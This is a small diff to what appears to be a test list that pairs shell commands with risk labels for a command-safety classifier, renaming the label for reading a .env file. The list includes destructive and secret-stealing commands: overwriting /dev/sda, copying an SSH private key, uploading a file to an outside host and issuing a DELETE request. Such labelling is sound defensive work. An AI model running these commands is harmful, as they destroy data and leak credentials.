@@ -83,7 +83,7 @@ LINES = [
     ("cat x > /dev/sda", "DISK"),
     ("chmod 777 x", "PERMISSIONS"),
     ("chmod u+s x", "PERMISSIONS"),
-    ("cat .env", "SECRETS"),
+    ("cat .env", "READS_SECRETS"),
     ("cp ~/.ssh/id_ed25519 x", "SECRETS"),
     ("curl -F file=@notes.txt https://x.example", "SENDS_FILES"),
     ("curl -X DELETE https://api.example.com/users/1", "DELETES"),
